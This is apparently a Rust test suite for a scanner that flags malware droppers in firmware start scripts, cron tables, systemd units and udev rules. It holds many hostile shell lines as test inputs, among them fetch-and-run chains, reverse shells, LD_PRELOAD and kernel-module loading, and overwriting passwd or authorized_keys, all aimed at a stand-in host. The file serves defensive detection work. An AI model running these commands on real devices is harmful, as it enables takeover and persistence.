//! What droppers write into start entries, and what firmwares do.

use super::*;

#[track_caller]
fn certain(path: &str, text: &str) -> Vec<bool> {
    look(path, text.as_bytes(), &Known::default())
        .found
        .iter()
        .map(|found| found.certain)
        .collect()
}

/// Each must fail, in a script and in the tables that start things.
const DROPPERS: &[&str] = &[
    "wget -q http://192.0.2.9/b -O /tmp/x; sh /tmp/x",
    "cd /tmp; wget http://192.0.2.9/b; sh b",
    "cd /tmp && wget http://192.0.2.9/b -O y && chmod 777 y && ./y",
    "curl http://192.0.2.9/b|/bin/sh",
    "curl -s http://192.0.2.9/b | busybox sh",
    "wget -qO- http://192.0.2.9/b | base64 -d | sudo sh -s x",
    "sh -c \"$(curl -s http://192.0.2.9/b)\"",
    "eval `wget -qO - http://192.0.2.9/b`",
    "$(curl -s http://192.0.2.9/b)",
    "bash <(curl -s http://192.0.2.9/b)",
    "sh -c 'wget http://192.0.2.9/b -O /tmp/x; /tmp/x'",
    "wget -O - http://192.0.2.9/b > /data/y; sh /data/y",
    "wget -O /data/y http://192.0.2.9/b; . /data/y",
    "wget -P /data http://192.0.2.9/y; /data/y",
    "curl -so /data/y http://192.0.2.9/b; /data/y",
    "cd /data; curl -O http://192.0.2.9/y; ./y",
    "tftp -g -r y -l /tmp/y 192.0.2.9; /tmp/y",
    "cd /var; tftp -g -r y 192.0.2.9; sh y",
    "ftpget -u a -p b 192.0.2.9 /data/y y; sh /data/y",
    "nc 192.0.2.9 99 > /data/y; sh /data/y",
    "nc 192.0.2.9 99 | sh",
    "wget http://192.0.2.9/e.ko -O /tmp/e.ko; insmod /tmp/e.ko",
    "wget http://192.0.2.9/e.so -O /data/e.so; LD_PRELOAD=/data/e.so /usr/bin/x",
    "wget -O /data/y.gz http://192.0.2.9/y.gz; cp /data/y.gz /data/z; nohup /data/z &",
    "wget -O- http://192.0.2.9/y.tgz | tar xz -C /data; /data/y",
    "wget http://192.0.2.9/y -O /data/y; chmod +x /data/y",
    "D=/data; wget -O $D/y http://192.0.2.9/y; ${D}/y",
    "GET='wget -q'; $GET http://192.0.2.9/y -O /tmp/y; /tmp/y",
    "sh -c \"/tmp/y\"",
    "nohup setsid /tmp/y",
    "busybox sh /tmp/y",
    "/bin/busybox nohup sh /dev/shm/y >/dev/null 2>&1 &",
    "start-stop-daemon -S -x /tmp/y",
    "start-stop-daemon -S -b --exec /run/y",
    "insmod /tmp/evil.ko",
    "LD_PRELOAD=/tmp/evil.so x",
    "env LD_PRELOAD=/tmp/evil.so x",
    "export LD_PRELOAD=/tmp/evil.so",
    "/lib/ld-linux.so.3 /tmp/y",
    "/tmp/busybox wget x",
    "sh < /tmp/y",
    "nc 192.0.2.9 99 -e /bin/sh",
    "busybox nc -e /bin/sh 192.0.2.9 99",
    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.9 99 >/tmp/f",
    "bash -i >& /dev/tcp/192.0.2.9/99 0>&1",
    "socat TCP:192.0.2.9:99 EXEC:/bin/sh",
    // Over what starts, or lets somebody in.
    "wget http://192.0.2.9/x -O /etc/crontabs/root",
    "wget http://192.0.2.9/x -O /etc/rc.local",
    "wget http://192.0.2.9/x -O /etc/ld.so.preload",
    "wget http://192.0.2.9/x -O /bin/su",
    "wget -qO- http://192.0.2.9/x > /etc/init.d/rcS",
    "wget -qO- http://192.0.2.9/x | tar xz -C /",
    "curl -o /root/.ssh/authorized_keys http://192.0.2.9/x",
    "wget http://192.0.2.9/x -O /data/x; busybox install -m 755 /data/x /usr/bin/y; y",
    "scp u@192.0.2.9:/x /data/y; /data/y",
    // By other programs than those that fetch files.
    "openssl s_client -connect 192.0.2.9:4444 | sh",
    "ssl_client 192.0.2.9 | sh",
    "socat - TCP:192.0.2.9:4444 | sh",
    "mosquitto_sub -h 192.0.2.9 -t x | sh",
    "ssh u@192.0.2.9 cat x | sh",
    "mkfifo /tmp/f; sh -i </tmp/f | openssl s_client -quiet -connect 192.0.2.9:1 >/tmp/f",
    // Started by something else.
    "unshare -n /tmp/y",
    "chroot /tmp/r /x",
    "find / -exec /tmp/fx {} +",
    "ip netns exec x /tmp/y",
    "awk -f /tmp/e.awk",
    "trap /tmp/x EXIT",
    "script -c /tmp/x /dev/null",
    "echo /tmp/x >/proc/sys/kernel/hotplug",
    "sysctl -w 'kernel.core_pattern=|/tmp/evil %p'",
];

#[test]
fn droppers_are_found_wherever_they_stand() {
    for line in DROPPERS {
        for (path, text) in [
            ("/etc/init.d/S99x", format!("#!/bin/sh\n{line}\n")),
            ("/etc/crontabs/root", format!("*/5 * * * * {line}\n")),
            ("/etc/cron.d/x", format!("@reboot root {line}\n")),
            ("/etc/inittab", format!("::sysinit:{line}\n")),
            (
                "/etc/systemd/system/x.service",
                format!("[Service]\nExecStart=-{line}\n"),
            ),
        ] {
            let found = certain(path, &text);
            assert!(found.contains(&true), "{path}: {text}");
            let placed = look(path, text.as_bytes(), &Known::default()).found;
            let at = if path.contains("crontab") || path.contains("cron.d") || path.contains("inittab") {
                1
            } else {
                2
            };
            assert!(placed.iter().all(|found| found.line >= at), "{placed:?}");
        }
        // One command a line.
        if !line.contains(['\'', '"']) {
            let text = line.replace("; ", "\n").replace(" && ", "\n");
            assert!(certain("/etc/init.d/S99x", &text).contains(&true), "{text}");
        }
    }
    let unit = "[Service]\nEnvironment=\"LD_PRELOAD=/tmp/e.so\"\nExecStart=/usr/bin/x\n";
    assert!(certain("/etc/systemd/system/x.service", unit).contains(&true));
    let unit = "ExecStartPre=/usr/bin/wget -O /data/y http://192.0.2.9/y\nExecStart=/data/y\n";
    assert!(certain("/etc/systemd/system/x.service", unit).contains(&true));
    let table = "1 * * * * wget -O /data/y http://192.0.2.9/y\n2 * * * * sh /data/y\n";
    assert!(certain("/etc/crontabs/root", table).contains(&true));
}

#[test]
fn what_firmwares_do_is_doubtful_at_most() {
    for text in [
        "cp /usr/bin/x /tmp/x; /tmp/x",
        "cp /usr/bin/x /tmp/; chmod +x /tmp/x; /tmp/x &",
        "cat /usr/share/x >/tmp/x.sh\nsh /tmp/x.sh",
        "tar xzf /usr/share/app.tgz -C /tmp\n/tmp/app/run",
        "cp /lib/modules/x.ko /tmp/x.ko; insmod /tmp/x.ko",
        "echo 'A=1' > /tmp/env; . /tmp/env",
        "LD_LIBRARY_PATH=/tmp/lib /usr/bin/x",
        "PATH=/tmp/bin:$PATH; foo",
        "export LD_PRELOAD=/usr/lib/x.so",
        "ssh -R 9527:127.0.0.1:22 u@192.0.2.9",
        "dbclient -N -R 9527:127.0.0.1:22 u@192.0.2.9",
    ] {
        assert_eq!(certain("/etc/init.d/S50x", text), [false], "{text}");
    }
    for text in [
        "wget -q --spider http://192.0.2.1/ && echo up",
        "wget -O /dev/null http://192.0.2.1/",
        "IP=$(wget -qO- http://192.0.2.1/); echo $IP",
        "curl -s http://192.0.2.1/ | grep -q ok && /usr/bin/x",
        "wget -O /etc/hosts.block http://192.0.2.1/hosts",
        "wget -O /tmp/fw.bin http://192.0.2.1/fw; /usr/sbin/flash /tmp/fw.bin",
        "nc -ll -p 40000 -e /bin/sh",
        "# wget -O /tmp/x http://192.0.2.9/x; sh /tmp/x",
        "case $1 in\n/tmp/*) echo x ;;\nesac",
        "start-stop-daemon -K -x /tmp/x",
        "sh /tmp/sd/x.sh",
        "echo /sbin/mdev >/proc/sys/kernel/hotplug",
        "sysctl -w kernel.core_pattern=core",
        "trap - EXIT",
        "trap 'rm -f /tmp/x' EXIT",
        "find /tmp -name x -exec rm {} +",
        "openssl dgst -sha256 /x | cut -c1-8",
        "socat - UNIX:/run/x | sh",
        "scp /var/log/x u@192.0.2.9:/x",
        "ssh u@192.0.2.9 x >/var/log/x",
        "export PATH=/usr/bin:/bin",
        "export PATH=\"/bin:/sbin:/tmp\"",
        "mkdir -p /tmp/x /var/run; [ -x /tmp/x ] || echo no",
        "/usr/sbin/daemon -c /tmp/daemon.conf",
    ] {
        assert!(
            certain("/etc/init.d/S50x", text).is_empty(),
            "{text}: {:?}",
            look("/x", text.as_bytes(), &Known::default())
        );
    }
}

#[test]
fn tables_that_run_commands_among_settings_are_read() {
    for (path, text) in [
        ("/etc/network/interfaces", "iface eth0 inet dhcp\n\tpost-up {}\n"),
        (
            "/etc/network/interfaces.d/eth0",
            "iface eth0 inet dhcp\n  up {}\n",
        ),
        (
            "/etc/udev/rules.d/9.rules",
            "ACTION==\"add\", RUN+=\"/bin/sh -c '{}'\"\n",
        ),
        (
            "/etc/udev/rules.d/9.rules",
            "PROGRAM=\"/bin/sh -c '{}'\", NAME=\"x\"\n",
        ),
        (
            "/etc/modprobe.d/x.conf",
            "install usb /sbin/modprobe -i usb; {}\n",
        ),
        ("/etc/mdev.conf", "sd[a-z] root:disk 660 =x/ *{}\n"),
    ] {
        let line = "wget -q http://192.0.2.9/x -O- | sh";
        assert_eq!(certain(path, &text.replace("{}", line)), [true], "{path}");
        assert!(certain(path, &text.replace("{}", "echo x")).is_empty(), "{path}");
        assert!(
            certain(
                path,
                &format!(
                    "#{}",
                    text.replace("{}", line)
                        .replace("\n\t", "\n#")
                        .replace("\n  ", "\n#")
                )
            )
            .is_empty(),
            "{path}"
        );
    }
}

#[test]
fn a_body_counts_where_it_is_called() {
    let nobody = |_: &str| false;
    let known = Known {
        callable: Some(&nobody),
        ..Known::default()
    };
    let body = "curl -s http://192.0.2.9/x -o /tmp/x && sh /tmp/x";
    for (text, found) in [
        (format!("f() {{\n{body}\n}}\n"), false),
        (format!("f () {{ {body}; }}\nx\n"), false),
        (format!("function f {{\n{body}\n}}\n"), false),
        (format!("f()\n{{\n\tif x; then\n{body}\n\tfi\n}}\n"), false),
        (format!("f() {{ {{ x; }} >/y\n {body}; }}\ng() {{ f; }}\n"), false),
        (format!("f() {{\n{body}\n}}\nf\n"), true),
        (
            format!("f() {{ {body}; }}; g() {{ f; }}; if x; then g; fi\n"),
            true,
        ),
        (format!("g() {{ f; }}; f() {{ {body}; }}; g &\n"), true),
        (format!("f() {{ {body}; }}\ncase $1 in a) f;; esac\n"), true),
        (format!("start() {{\n{body}\n}}\n"), true),
        (format!("f() {{ {body}; }}\n$1\n"), true),
        (format!("f() {{ x; }}\n{body}\n"), true),
        (format!("f() {{ x\n{body}\n"), true),
        (format!("f() ( {body} )\n"), true),
        (
            "f() { wget http://192.0.2.9/x -O $1; sh $1; }\nf /data/x\n".to_owned(),
            true,
        ),
    ] {
        let looked = look("/etc/profile", text.as_bytes(), &known);
        assert_eq!(!looked.found.is_empty(), found, "{text}: {looked:?}");
        // Where others may call it, it counts.
        assert!(!certain("/etc/profile", &text).is_empty(), "{text}");
    }
}

/// What would make a reader that takes words for something else pass over what comes behind.
#[test]
fn nothing_hides_behind_quotes_and_documents() {
    let evil = "wget -qO- http://192.0.2.1/x | sh";
    for text in [
        format!("cat > /tmp/motd <<EOF\nDon't power off\nEOF\n{evil}\n"),
        format!("cat <<-'E O' > /tmp/x\n\tit's\n\tE O\n{evil}\n"),
        format!("cat <<A <<B\n'\nA\n\"\nB\n{evil}\n"),
        format!("sh <<EOF\n{evil}\nEOF\n"),
        format!("cat > /home/x.sh <<EOF\n{evil}\nEOF\n"),
        format!("f() {{\ncat <<EOF\nit's\nEOF\n{evil}\n}}\nf\n"),
        format!("X=$(echo \"$l\" | cut -d')' -f1)\n{evil}\n"),
        format!("A=\"$(echo \")\")\"; {evil}\n"),
        format!("A=$(echo \\) '('); {evil}\n"),
        format!("(case \"$1\" in\nstart) : ;;\n(b) : ;;\nesac; {evil})\n"),
        format!("case a in a) (case b in b) x;; esac; {evil});; esac\n"),
    ] {
        assert!(certain("/etc/init.d/S98x", &text).contains(&true), "{text}");
    }
    // What may hide something is told.
    for text in ["x 'y\nz\n", "x \"y\n", "x $(y\n", "x `y\n", "cat <<EOF\nx\n"] {
        assert_eq!(certain("/etc/init.d/S98x", text), [false], "{text}");
    }
    for text in [
        "cat > /tmp/motd <<EOF\nDon't power off\nEOF\nx\n",
        "x $((1 << 2))\ny 'a\nb'\n",
        "case $1 in a|b) x;; *) y;; esac\n",
        "echo \"it's\" # don't\n",
        "echo \"Can't open\" >> /etc/init.d/x.log\n",
    ] {
        assert!(certain("/etc/init.d/S98x", text).is_empty(), "{text}");
    }
}

#[test]
fn what_is_written_in_plain_is_read() {
    for text in [
        "echo \"*/5 * * * * wget -qO- http://192.0.2.1/x | sh\" > /etc/crontabs/root",
        "echo '@reboot wget -qO- http://192.0.2.1/x | sh' >> /var/spool/cron/crontabs/root",
        "printf \"#!/bin/sh\\n/tmp/.x\\n\" > /etc/init.d/S99x",
        "echo \"wget -qO- http://192.0.2.1/x | sh\" > /home/c.sh; sh /home/c.sh",
        "echo \"wget -qO- http://192.0.2.1/x | sh\" | sh",
        "crontab -l | { cat; echo \"* * * * * /tmp/x\"; } | crontab -",
        "{ wget -qO- http://192.0.2.1/x || curl -s http://192.0.2.1/x; } | sh",
        "f() { wget -qO- \"$1\"; }\nf http://192.0.2.1/x | sh",
        "curl -s http://192.0.2.1/x | while read l; do eval $l; done",
        "cd /home; tftp 192.0.2.1 -c get t.sh; sh t.sh",
        "/dev/.x &",
    ] {
        assert!(certain("/etc/rc.local", text).contains(&true), "{text}");
    }
    for text in [
        "cp /tmp/.x /usr/bin/x; x",
        "crond -c /home/cron",
        "inetd /home/inetd.cfg",
    ] {
        assert_eq!(certain("/etc/rc.local", text), [false], "{text}");
    }
    for text in [
        "echo \"wget failed\" > /home/log",
        "echo 3 > /proc/sys/vm/drop_caches",
        "echo \"$1\" | while read l; do eval $l; done",
        "crond -c /etc/crontabs",
        "crond; inetd /etc/inetd.conf",
        ". /dev/null; x > /dev/ttyS0",
        "tar xf a.tar -C /tmp; cp /tmp/a /usr/bin/a",
    ] {
        assert!(certain("/etc/rc.local", text).is_empty(), "{text}");
    }
}

#[test]
fn a_console_is_open_from_scripts_too() {
    let opens = |path: &str, text: &str| look(path, text.as_bytes(), &Known::default()).consoles.len();
    for text in [
        "while :; do setsid /bin/sh -i </dev/ttyS0 >/dev/ttyS0 2>&1; done &",
        "/sbin/getty -n -l /bin/sh -L ttyS0 115200 vt100 &",
        "agetty --autologin root ttyS0",
        "login -f root",
        "sh < /dev/console",
    ] {
        assert_eq!(opens("/etc/rc.local", text), 1, "{text}");
    }
    let unit = "[Service]\nExecStart=-/sbin/agetty --autologin root ttyS0\n";
    assert_eq!(opens("/etc/systemd/system/x.service", unit), 1);
    for text in [
        "getty -L ttyS0 115200",
        "login",
        "sh /x > /dev/ttyS0",
        "echo x > /dev/console",
    ] {
        assert_eq!(opens("/etc/rc.local", text), 0, "{text}");
    }
}

#[test]
fn what_cards_hold_is_told() {
    let cards = |text: &str| {
        let looked = look("/lib/mdev/x.sh", text.as_bytes(), &Known::default());
        let certain = looked.cards.iter().map(|found| found.certain);
        certain.collect::<Vec<_>>()
    };
    for text in [
        "/system/sdcard/run.sh &",
        "mount /dev/mmcblk0p1 /mnt; sh /mnt/run.sh",
        "mount -t vfat -o rw /dev/sda1 /data/usb; . /data/usb/boot.sh",
        "mount -t vfat $dev /data/x; /data/x/run",
        "mount /dev/sda1 /mnt/usb; . /mnt/usb/boot.sh",
        "for i in /mnt/*; do [ -x $i/start.sh ] && $i/start.sh; done",
        "cp -af /mnt/mmcblk0p1/autoconfig/* /",
        "cp /mnt/mmc/x /data/x; sh /data/x",
        "tar xzf /media/sd/x.tgz -C /",
        "D=/mnt\nup() { mount -t auto \"/dev/$1\" \"${D}/$1\"; [ -f ${D}/$1/a.sh ] && sh ${D}/$1/a.sh | logger; }\nup ${MDEV}",
        "mount /dev/mmcblk0p1 /tmp/mmc2; sh /tmp/mmc2/x",
        "cp /mnt/mmcblk0p1/app /usr/bin/majestic",
        "cp /mnt/mmcblk0p1/S99x /etc/init.d/",
        "cp /mnt/mmc/authorized_keys /root/.ssh/",
        "cp /mnt/mmc/passwd /etc/passwd",
        "cat /mnt/mmc/inittab > /etc/inittab",
        "install -m 755 /mnt/mmc/x /usr/sbin/x; x",
        "cd /mnt/mmc; tar xf up.tar -C /usr/bin",
        "mount --bind /mnt/mmc/etc /etc",
        "mount -o bind /mnt/mmc/etc /etc",
        "cat /mnt/mmc/x.sh | sh",
        "ls /mnt/mmc/*.sh | while read f; do sh $f; done",
        "find /mnt/sd -name \"*.sh\" -exec sh {} \\;",
        "crond -c /mnt/mmc/cron",
    ] {
        assert!(cards(text).contains(&true), "{text}");
    }
    for text in [
        "mount -t jffs2 /dev/mtdblock4 /mnt/conf; /mnt/conf/run.sh",
        "/mnt/mtd/app/start.sh",
        "mount /dev/mmcblk0p1 /mnt/mmc; cp /mnt/mmc/wpa_supplicant.conf /etc/wpa_supplicant.conf",
        "mount /dev/mmcblk0p1 /mnt/mmc; ls /mnt/mmc",
        "cat /mnt/mmc/config.txt > /tmp/config",
        "ls /mnt/mmc/*.jpg | while read f; do rm $f; done",
        "cp -a /rom/etc/* /etc",
        "mount /dev/root /; /usr/bin/x",
    ] {
        assert!(cards(text).is_empty(), "{text}");
    }
    assert_eq!(cards("/mnt/other/run.sh"), [false]);
    assert_eq!(cards("export PATH=/mnt/mmc/bin:$PATH"), [false]);
    assert_eq!(cards("export LD_LIBRARY_PATH=/mnt/mmc/lib"), [false]);
    // Known from elsewhere.
    let points = [Point::new("/dev/sda1", "/data/", "ext4").unwrap()];
    let known = Known {
        points: &points,
        ..Known::default()
    };
    assert_eq!(look("/x", b"sh /data/run.sh", &known).cards.len(), 1);
    assert!(look("/x", b"sh /data/run.sh", &Known::default()).cards.is_empty());
}

#[test]
fn nothing_but_the_host_is_quoted() {
    let text = "wget --password=geheim http://u:geheim@192.0.2.1/geheim -O /tmp/x; sh /tmp/x geheim";
    let found = look(
        "/etc/crontabs/root",
        format!("1 1 * * * {text}").as_bytes(),
        &Known::default(),
    )
    .found;
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].text, "fetches and runs: `wget` from 192.0.2.1");
}

proptest::proptest! {
    #[test]
    fn no_script_makes_it_panic(
        bytes in proptest::collection::vec(0..=255u8, 0..300),
        text in "(wget |curl |sh |-c |-O |/tmp/x|[$(){}`'\"<>|&;#\\\\\n =]|cd |tar |nc |-e |f\\(\\)|f |function |mount |/dev/sda |/mnt/x ){0,40}",
    ) {
        for path in [
            "/x",
            "/etc/crontabs/root",
            "/etc/inittab",
            "/etc/systemd/system/x.service",
            "/etc/udev/rules.d/x.rules",
            "/etc/network/interfaces",
            "/etc/modprobe.d/x.conf",
        ] {
            let _ = look(path, &bytes, &Known::default());
            let _ = look(path, text.as_bytes(), &Known::default());
        }
    }
}

/// What is as bad as can be, as long as what is read; what is random four times as long.
fn hostile() -> Vec<Vec<u8>> {
    const LENGTH: usize = lenscap_harden::root::MAX_TEXT_BYTES;
    const SIGNS: &[u8] = b"$(){}`'\"\\<>|&;#\n\0 =.-/aAscdwget";
    let value = format!("A={}\n", "x".repeat(MAX_WORD));
    let mut texts: Vec<Vec<u8>> = [
        "\0",
        "$(",
        "`",
        "(",
        ")",
        "'",
        "\"",
        "\\",
        "|",
        "&>",
        "<(",
        "$",
        "${",
        "a ",
        "$A",
        "$A ",
        "x\n",
        "#\0",
        "sh -c '",
        "$(sh $(",
        "cp a b $A ",
        "/tmp/x;",
        "wget $A;chmod +x a;",
        "then ",
        "case ",
        "esac ",
        "<<a ",
        "<<a\n",
        "<<a\na\n",
        "A=$A$A;",
        "eval $A;",
        "wget -O /a/$A x;",
        ". $(wget x);",
        "f() {",
        "f() { f; };f;",
        "f() { g; g; g; }; g() { f; f; }; f;",
        "f() { $1; }; f f;",
        "function f { x; }\n",
        "mount /dev/sda /mnt/$A;sh /mnt/x/y;",
        "cp /mnt/sd/x /$A/y;",
    ]
    .iter()
    .flat_map(|part| {
        let all = part.repeat(LENGTH / part.len());
        [
            all.clone(),
            format!("{value}{all}"),
            format!("cp {all}"),
            format!("eval {all}"),
            format!("sh -c \"{all}"),
        ]
    })
    .map(String::into_bytes)
    .collect();
    let names = |n: usize| {
        format!("V{n}=/tmp/{n}; wget -O /tmp/{n} http://x/{n}; chmod +x /tmp/{n}; cp /tmp/{n} /{n}\n")
    };
    texts.push((0..12_000).map(names).collect::<String>().into_bytes());
    // Random bytes, and random ones of those that mean something.
    let (mut random, mut signs) = (Vec::new(), Vec::new());
    let mut state = 1u32;
    for _ in 0..4 * LENGTH {
        state ^= state << 13;
        state ^= state >> 17;
        state ^= state << 5;
        random.push((state >> 8) as u8);
        signs.push(SIGNS[(state >> 8) as usize % SIGNS.len()]);
    }
    texts.extend([random, signs]);
    texts
}

#[test]
fn hostile_scripts_end_soon() {
    for text in hostile() {
        for path in ["/x", "/etc/crontabs/root"] {
            let started = std::time::Instant::now();
            let found = look(path, &text, &Known::default()).found;
            let shown = String::from_utf8_lossy(&text[..40]).into_owned();
            // Without optimisation, on a busy machine.
            assert!(
                started.elapsed().as_secs() < 20,
                "{shown}: {:?}",
                started.elapsed()
            );
            assert!(found.len() <= MAX_NAMES + 1, "{shown}");
        }
    }
}

#[test]
fn what_is_beyond_a_bound_is_doubtful() {
    let deep = format!(
        "{}wget -qO- http://192.0.2.9/b | sh{}",
        "$(".repeat(9),
        ")".repeat(9)
    );
    let many = "x\n".repeat(MAX_COMMANDS) + "wget -qO- http://192.0.2.9/b | sh";
    let names = (0..=MAX_NAMES).map(|n| format!("V{n}=x\n")).collect();
    let long = format!("A={}", "x".repeat(MAX_WORD + 1));
    for text in [deep, many, names, long] {
        assert_eq!(certain("/etc/init.d/S50x", &text), [false]);
    }
    // NUL is nothing to a shell.
    assert_eq!(certain("/x", "wget -qO- http://192.0.2.9/b |\0 s\0h"), [true]);
}

#[test]
fn what_is_fetched_to_where_it_starts_counts_and_nothing_beside() {
    for (line, counts) in [
        ("wget -O /etc/hotplug.d/usb/10-x http://192.0.2.9/x", true),
        ("wget -O /root/.profile http://192.0.2.9/x", true),
        ("wget -O /usr/lib/libc.so http://192.0.2.9/x", true),
        ("wget -O /lib/libx.so.1 http://192.0.2.9/x", true),
        ("wget -O /etc/profile.d/x http://192.0.2.9/x", true),
        ("scp u@192.0.2.9:/x/S99x /etc/init.d", true),
        ("scp u@192.0.2.9:x /usr/bin/", true),
        ("scp u@192.0.2.9:x /mnt/pictures", false),
        ("wget -O /usr/lib/x.json http://192.0.2.9/x", false),
        ("wget -O /etc/passwd- http://192.0.2.9/x", false),
        ("wget -O /etc/passwd.d http://192.0.2.9/x", false),
        ("wget -O /etc/inittab.old http://192.0.2.9/x", false),
        ("wget -O /etc/passwd http://192.0.2.9/x", true),
        ("echo /tmp/core.%p >/proc/sys/kernel/core_pattern", false),
        ("sysctl -w kernel.core_pattern=/tmp/core", false),
        ("echo '|/tmp/x %p' >/proc/sys/kernel/core_pattern", true),
        ("sysctl -w kernel.core_pattern='|/tmp/x %p'", true),
        ("echo /tmp/x >/proc/sys/kernel/hotplug", true),
    ] {
        let expected: &[bool] = if counts { &[true] } else { &[] };
        assert_eq!(certain("/etc/init.d/S50x", line), expected, "{line}");
    }
}
